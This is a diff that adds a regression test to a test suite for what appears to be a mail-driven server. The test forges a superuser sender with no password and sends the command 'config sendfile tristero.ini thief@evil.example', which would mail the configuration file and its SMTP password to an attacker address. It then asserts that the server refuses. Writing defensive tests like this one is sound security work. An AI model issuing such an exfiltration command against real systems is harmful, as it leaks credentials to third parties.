@@ -315,3 +315,13 @@ def test_commit_fsyncs_every_staged_file_before_the_manifest(tmp_path, monkeypat
     txn.commit()
     assert events == [("write", "000001", False), ("write", "000002", False),
                       ("fsync", "000001"), ("fsync", "000002"), ("write", "manifest.json", True)]
+
+
+def test_config_sendfile_of_the_configuration_needs_a_superuser_password(site):
+    # A forged From of a SuperUser without a password must not mail the SMTP password away.
+    from conftest import mail
+    site.drop(mail(frm="boss@example.org", body="config sendfile tristero.ini thief@evil.example"))
+    site.run()
+    assert site.messages_to("thief@evil.example") == []
+    reply = [m for m in site.messages_to("boss@example.org") if m["Subject"].startswith("Re:")][0]
+    assert "sent to another address only by a SuperUser with a password" in reply.get_content()
